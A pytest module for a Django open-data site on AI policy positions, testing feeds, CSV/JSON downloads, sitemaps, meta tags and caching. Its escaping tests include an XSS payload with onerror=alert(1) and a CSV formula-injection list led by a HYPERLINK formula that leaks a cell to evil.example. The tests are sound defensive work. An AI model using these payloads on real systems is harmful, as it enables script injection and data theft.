"""Open data: feeds, downloads, sitemap, meta, citation and conditional GET."""

import csv
import dataclasses
import datetime
import io
import json
import re
import threading
import xml.etree.ElementTree as ET
from html import unescape

import feedparser
import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.test import RequestFactory

from alliance_portal.feeds import FEED_SIZE
from debates.exports import kinds, streaming
from debates.models import Comment, PolicyItem, Position
from debates.tests.factories import make_position
from debates.views import opendata
from members.models import Coalition, Organization, Person
from members.tests.factories import make_source


def feed(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.bozo_exception
    assert parsed.version == "atom10"
    return parsed


class TestFeeds:
    def test_latest_positions_newest_first(self, client, seed):
        newest = make_position(summary="The newest position of all.")
        parsed = feed(client, "/positions/feed/")
        assert len(parsed.entries) == FEED_SIZE  # 74 positions, the newest 50
        assert parsed.entries[0].link.endswith(newest.get_absolute_url())
        # Each dated when said or first reported; one known by neither has only its <updated>.
        dates = [entry.get("published_parsed") or entry.updated_parsed for entry in parsed.entries]
        assert dates == sorted(dates, reverse=True)

    @pytest.mark.parametrize(
        ("query", "count"),
        [
            ("topic=biosecurity", 1),
            ("coalition=frontier-model-forum", 15),
            ("organization=meta", 9),
            ("organization=uc-berkeley", 1),  # its dean at the Alliance's launch; its researcher spoke for himself
            ("person=yann-lecun", 5),
        ],
    )
    def test_feed_respects_the_list_filters(self, client, seed, query, count):
        parsed = feed(client, "/positions/feed/?" + query)
        assert len(parsed.entries) == count
        page = client.get("/positions/?" + query).content.decode()
        for entry in parsed.entries:
            assert entry.link.split("testserver", 1)[1] in page

    def test_each_page_links_its_feed(self, client, seed):
        html = client.get("/topics/biosecurity/").content.decode()
        link = '<link rel="alternate" type="application/atom+xml" title="Positions on Biosecurity"'
        assert link + ' href="/positions/feed/?topic=biosecurity">' in html
        html = client.get("/positions/?stance=open&page=1").content.decode()
        assert 'title="Positions matching these filters" href="/positions/feed/?stance=open"' in html

    def test_policy_items_and_their_status_changes(self, client, seed):
        act = PolicyItem.objects.get(slug="eu-ai-act")
        act.status_changes.create(status="partly_applicable", since=datetime.date(2025, 2, 2))
        act.refresh_status()
        parsed = feed(client, "/policies/status-changes/feed/")
        assert parsed.entries[0].title == "EU AI Act: in force → partly applicable"
        link = parsed.entries[0].link
        assert link.endswith("/policies/eu-ai-act/#status")
        page = client.get(link.split("#")[0].replace("http://testserver", "")).content.decode()
        assert 'id="status"' in page  # the entry's anchor exists
        titles = [e.title for e in parsed.entries]
        assert "EU AI Act: in negotiation → in force" in titles  # the seed's history, as loaded
        assert "US executive order on AI: in force → revoked" in titles
        assert "US executive order on AI: recorded as in force" in titles
        assert [e.title for e in feed(client, "/policies/feed/?jurisdiction=eu").entries] == [
            "EU AI Act: partly applicable"
        ]

    def test_approved_comments_on_a_position(self, client, seed):
        position = Position.objects.get(slug="camille-carlton-completely-irresponsible")
        Comment.objects.create(
            position=position, author_name="Shown", body_markdown="x", body_html="<p>yes</p>", status="approved"
        )
        Comment.objects.create(position=position, author_name="Hidden", body_markdown="x", body_html="<p>no</p>")
        parsed = feed(client, position.get_absolute_url() + "comments/feed/")
        assert [e.author for e in parsed.entries] == ["Shown"]

    def test_bad_filter_on_a_feed_is_a_400_page_naming_it(self, client, seed):
        response = client.get("/positions/feed/?topic=nope")
        assert response.status_code == 400
        assert "there is no topic called “nope”" in response.content.decode()

    @pytest.mark.parametrize(
        ("url", "count"), [("/organizations/feed/?kind=university", 18), ("/people/feed/?stance=mixed", 7)]
    )
    def test_organization_and_people_feeds(self, client, seed, url, count):
        assert len(feed(client, url).entries) == count


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()


class TestDownloads:
    def test_positions_csv_round_trips_with_filters(self, client, seed):
        rows = list(
            csv.DictReader(io.StringIO(download(client, "/data/positions.csv?stance=closed&topic=open-weights")))
        )
        expected = Position.objects.filter(stance="closed", topics__slug="open-weights")
        assert {r["slug"] for r in rows} == set(expected.values_list("slug", flat=True))
        carlton = next(r for r in rows if r["speaker_slug"] == "camille-carlton")
        db = Position.objects.get(slug=carlton["slug"])
        assert carlton["quotation"] == db.quotation == "completely irresponsible"
        assert carlton["summary"] == db.summary
        assert carlton["topics"] == "; ".join(t.slug for t in db.topics.all())

    @pytest.mark.parametrize(
        ("kind", "model", "key"),
        [
            ("positions", Position, "slug"),
            ("organizations", Organization, "slug"),
            ("people", Person, "slug"),
            ("policies", PolicyItem, "slug"),
        ],
    )
    def test_json_round_trips_every_record(self, client, seed, kind, model, key):
        records = json.loads(download(client, f"/data/{kind}.json"))
        assert {r[key] for r in records} == set(model.objects.values_list(key, flat=True))

    def test_memberships_json_with_a_filter(self, client, seed):
        records = json.loads(download(client, "/data/memberships.json?coalition=ai-alliance&role=founder"))
        assert {(r["organization"], r["role"]) for r in records} == {("ibm", "founder"), ("meta", "founder")}
        assert records[0]["sources"][0]["title"] == "Meta and IBM Launch AI Alliance" or records[0]["sources"]

    def test_policy_json_keeps_structure(self, client, seed):
        records = {r["slug"]: r for r in json.loads(download(client, "/data/policies.json"))}
        order = records["us-executive-order-on-ai"]
        assert order["adopted_on"] == "2023-10-30"
        assert any(m["is_deadline"] and m["on"] == "2024-07-26" for m in order["milestones"])

    def test_no_private_field_appears_in_any_export(self, client, seed):
        position = Position.objects.first()
        Comment.objects.create(
            position=position,
            author_name="A",
            email="secret@example.org",
            body_markdown="x",
            body_html="x",
            ip_hash="c0ffee",
            status="approved",
        )
        for kind in ("positions", "organizations", "memberships", "people", "policies"):
            for fmt in ("csv", "json"):
                body = download(client, f"/data/{kind}.{fmt}")
                assert "secret@example.org" not in body and "c0ffee" not in body and "ip_hash" not in body

    def test_a_bad_filter_is_a_400_with_the_reason(self, client, seed):
        response = client.get("/data/positions.csv?stance=sideways")
        assert response.status_code == 400
        assert "stance" in response.content.decode()
        assert client.get("/data/unknown.csv").status_code == 404

    def test_a_large_download_streams_in_bounded_chunks(self, client, seed):
        person, org = Person.objects.first(), Organization.objects.first()
        Position.objects.bulk_create(
            Position(
                slug=f"bulk-{i}",
                speaker=person,
                organization=org,
                form="paraphrase",
                summary=f"Bulk {i}",
                stance="open",
            )
            for i in range(5000)
        )
        response = client.get("/data/positions.csv")
        assert response.streaming
        chunks = list(response.streaming_content)
        assert chunks[0].decode().startswith("slug,speaker")
        assert len(chunks) >= 3  # sent as it is read, not gathered whole
        longest_row = max(len(line) for chunk in chunks for line in chunk.split(b"\n"))
        assert max(len(chunk) for chunk in chunks) <= streaming.CHUNK_BYTES + longest_row + 1
        assert sum(chunk.count(b"\n") for chunk in chunks) == 1 + Position.objects.count()

    def test_postgresql_writes_the_same_csv_as_pythons_csv_module(self, client, seed):
        """The positions CSV is written by COPY; every other kind by csv.writer.
        Both must give byte for byte the same file for awkward values."""
        tricky = make_position(
            summary='Says "open", then, on a new line,\nsomething else; and\r\na Windows line.',
            context='Ends with a quote"',
            venue="  padded  ",
            quotation="",
            said_on=None,
            sources=[
                make_source(title="Über, “quoted”", publisher="", url="https://example.org/a?b=1,2"),
                make_source(title="Second", publisher="Paper", published_on=datetime.date(2024, 2, 29)),
            ],
        )
        assert tricky.topics.exists()
        python_kind = dataclasses.replace(
            kinds.KINDS["positions"],
            fields=[dataclasses.replace(field, sql=None) for field in kinds.KINDS["positions"].fields],
        )
        queryset = Position.objects.order_by("pk")
        by_copy = b"".join(
            c if isinstance(c, bytes) else c.encode() for c in streaming.csv_lines(kinds.KINDS["positions"], queryset)
        )
        by_python = "".join(streaming.csv_lines(python_kind, queryset)).encode()
        assert by_copy == by_python
        row = next(r for r in csv.DictReader(io.StringIO(by_copy.decode())) if r["slug"] == tricky.slug)
        assert row["summary"] == tricky.summary and row["context"] == tricky.context and row["venue"] == "  padded  "
        assert row["sources"] == "Über, “quoted” https://example.org/a?b=1,2; Second Paper 2024-02-29"

    def test_a_download_the_reader_abandons_stops_on_the_server(self, seed):
        person, org = Person.objects.first(), Organization.objects.first()
        Position.objects.bulk_create(
            Position(
                slug=f"bulk-{i}", speaker=person, organization=org, form="paraphrase", summary="x" * 500, stance="open"
            )
            for i in range(20000)
        )
        # Straight from the view, as a WSGI server gets it (the test client wraps the content).
        response = opendata.data_download(RequestFactory().get("/data/positions.csv"), "positions", "csv")
        chunks = iter(response.streaming_content)
        next(chunks), next(chunks)
        assert any(t.name == "copy-out" for t in threading.enumerate())
        # The server closes the response when the reader goes away; the request's end
        # would close the connection, which this test goes on using.
        request_finished.disconnect(close_old_connections)
        try:
            response.close()
        finally:
            request_finished.connect(close_old_connections)
        assert not any(t.name == "copy-out" for t in threading.enumerate())
        assert Position.objects.filter(slug="bulk-19999").exists()  # the connection still answers

    def test_list_pages_link_their_downloads_with_the_same_filters(self, client, seed):
        html = client.get("/organizations/?kind=company&page=1").content.decode()
        assert 'href="/data/organizations.csv?kind=company"' in html
        assert 'href="/data/organizations.json?kind=company"' in html
        assert 'href="/organizations/feed/?kind=company"' in html


def test_data_page_documents_every_field_and_the_licence(client, seed):
    html = client.get("/data/").content.decode()
    assert "CC BY 4.0" in html
    for kind in kinds.KINDS.values():
        for field in kind.fields:
            assert f"<code>{field.name}</code>" in html


def locations(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return [
        loc.text.replace("http://testserver", "")
        for loc in ET.fromstring(response.content).iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")
    ]


def test_sitemap_lists_every_public_object(client, seed, monkeypatch):
    monkeypatch.setattr("debates.sitemaps.ModelPages.limit", 5)  # so positions take pages
    sections = locations(client, "/sitemap.xml")  # the index
    assert "/sitemap-position.xml" in sections and "/sitemap-position.xml?p=3" in sections
    urls = {url for section in sections for url in locations(client, section)}
    for model in (Coalition, Organization, Person, Position, PolicyItem):
        for obj in model.objects.all():
            assert obj.get_absolute_url() in urls
    assert {"/", "/positions/", "/matrix/", "/data/"} <= urls
    robots = client.get("/robots.txt").content.decode()
    assert "Sitemap: http://testserver/sitemap.xml" in robots and "Disallow: /admin/" in robots


def test_meta_tags_and_json_ld_are_present_and_escaped(client, seed):
    position = make_position(
        form="quote",
        quotation='</script><script>alert("x")</script> & "quoted"',
        summary='A summary with <b>tags</b> & "quotes".',
    )
    html = client.get(position.get_absolute_url()).content.decode()
    assert '<meta property="og:type" content="article">' in html
    assert '<link rel="canonical" href="http://testserver' + position.get_absolute_url() + '">' in html
    assert 'content="A summary with &lt;b&gt;tags&lt;/b&gt; &amp; &quot;quotes&quot;."' in html
    assert '<meta name="twitter:card" content="summary">' in html
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1)
    assert "</script>" not in block and "<script>" not in block
    data = json.loads(block)
    assert data["@type"] == "Quotation"
    assert data["text"] == position.quotation
    assert data["creator"]["name"] == position.speaker.name


def test_citation_line_names_speaker_organization_date_source_and_permalink(client, seed):
    html = client.get("/positions/yann-lecun-massive-corporate-lobbying/").content.decode()
    assert (
        '<p class="citation" id="citation">Yann LeCun, Meta, reported 5 December 2023, '
        "“Meta and IBM Launch AI Alliance”, http://testserver/positions/yann-lecun-massive-corporate-lobbying/</p>"
    ) in html


@pytest.mark.parametrize(
    ("url", "slug"),
    [
        ("/positions/", "clement-delangue-untie-everyone"),  # the newest: on the first page
        ("/positions/dario-gil-non-proprietary-and-open/", "dario-gil-non-proprietary-and-open"),
        ("/positions/feed/", "clement-delangue-untie-everyone"),
    ],
)
def test_conditional_get_answers_304_until_something_changes(client, seed, url, slug):
    first = client.get(url)
    etag = first["ETag"]
    assert client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 304
    position = Position.objects.get(slug=slug)
    position.summary = "Changed by a moderator."
    position.save()
    again = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 200
    assert again["ETag"] != etag


HOSTILE_TEXT = "<img src=x onerror=alert(1)> & <b>bold</b> < 3"


def atom_summaries(client, url) -> list[str]:
    """Each entry's <summary type="html"> as a feed reader receives it: HTML, once XML is decoded."""
    response = client.get(url)
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    ns = {"atom": "http://www.w3.org/2005/Atom"}
    summaries = root.findall("atom:entry/atom:summary", ns)
    assert all(s.get("type") == "html" for s in summaries)
    return [s.text or "" for s in summaries]


class TestFeedsCarryNoLiveMarkup:
    @pytest.mark.parametrize(
        ("url", "edit"),
        [
            ("/people/feed/", lambda: Person.objects.update(bio=HOSTILE_TEXT)),  # the feed: the newest 50
            ("/organizations/feed/", lambda: Organization.objects.update(description=HOSTILE_TEXT)),
            ("/positions/feed/", lambda: Position.objects.filter(pk=Position.objects.first().pk).update(
                summary=HOSTILE_TEXT)),
            ("/policies/feed/", lambda: PolicyItem.objects.update(open_models=HOSTILE_TEXT)),
        ],
    )  # fmt: skip
    def test_moderators_plain_text_is_escaped(self, client, seed, url, edit):
        from debates.tests.html_safety import dangerous_attributes, embedding_tags_in

        edit()
        summaries = [s for s in atom_summaries(client, url) if "onerror" in s]
        assert summaries, "the hostile text is in the feed"
        for summary in summaries:
            assert embedding_tags_in(summary) == set() and dangerous_attributes(summary) == []
            assert "<" not in summary  # no element at all: the text reads as text
            assert HOSTILE_TEXT in unescape(summary)  # and "<" and "&" read as typed

    def test_policy_status_notes_are_escaped(self, client, seed):
        policy = PolicyItem.objects.first()
        policy.status_note = HOSTILE_TEXT
        policy.status = "revoked"
        policy.save()
        (summary,) = [s for s in atom_summaries(client, "/policies/status-changes/feed/") if "onerror" in s]
        assert "<" not in summary and HOSTILE_TEXT in unescape(summary)

    def test_sanitized_comments_still_go_out_as_html(self, client, seed):
        position = Position.objects.first()
        Comment.objects.create(
            position=position,
            author_name="A",
            body_markdown="*yes*",
            body_html="<p><em>yes</em></p>",
            status="approved",
        )
        (summary,) = atom_summaries(client, f"/positions/{position.slug}/comments/feed/")
        assert summary == "<p><em>yes</em></p>"


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


class TestCsvFormulaInjection:
    @pytest.fixture
    def formulas(self, seed):
        Person.objects.filter(slug="yann-lecun").update(bio=FORMULAS[0])
        Organization.objects.filter(slug="ibm").update(description=FORMULAS[1], website="")
        for position, text in zip(Position.objects.order_by("pk"), FORMULAS, strict=False):
            position.summary = text
            position.context = text
            position.save()
        PolicyItem.objects.update(status_note=FORMULAS[3])
        Coalition.objects.update(description=FORMULAS[0])

    @pytest.mark.parametrize("kind", list(kinds.KINDS))
    def test_no_cell_of_any_download_starts_like_a_formula(self, client, formulas, kind):
        rows = list(csv.reader(io.StringIO(download(client, f"/data/{kind}.csv"), newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    def test_formulas_are_kept_as_text_with_a_leading_quote(self, client, formulas):
        people = {r["slug"]: r for r in csv.DictReader(io.StringIO(download(client, "/data/people.csv")))}
        assert people["yann-lecun"]["bio"] == "'" + FORMULAS[0]
        positions = list(csv.DictReader(io.StringIO(download(client, "/data/positions.csv"), newline="")))
        summaries = {r["summary"] for r in positions}  # written by PostgreSQL (COPY)
        assert {"'" + text for text in FORMULAS} <= summaries

    def test_json_keeps_the_original_text(self, client, formulas):
        people = {r["slug"]: r for r in json.loads(download(client, "/data/people.json"))}
        assert people["yann-lecun"]["bio"] == FORMULAS[0]
        summaries = {r["summary"] for r in json.loads(download(client, "/data/positions.json"))}
        assert set(FORMULAS) <= summaries


@pytest.fixture
def database_away():
    """The database really unreachable: the connection is pointed at a port nothing listens on."""
    import socket

    from django.db import connection

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed_port = s.getsockname()[1]
    original = dict(connection.settings_dict)
    connection.close()
    connection.settings_dict.update(HOST="127.0.0.1", PORT=closed_port)
    try:
        yield
    finally:
        connection.close()
        connection.settings_dict.clear()
        connection.settings_dict.update(original)


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("url", ["/data/people.csv", "/data/positions.csv", "/data/positions.json"])
def test_a_download_while_the_database_is_away_is_a_styled_503_not_a_cut_off_200(client, database_away, url):
    response = client.get(url)
    assert response.status_code == 503
    assert not response.streaming
    assert response["Retry-After"] == "60"
    assert "cannot reach its database" in response.content.decode()


@pytest.mark.django_db(transaction=True)
def test_healthz_with_the_database_away_is_503_with_retry_after(client, database_away):
    response = client.get("/healthz")
    assert response.status_code == 503 and response["Retry-After"] == "30"
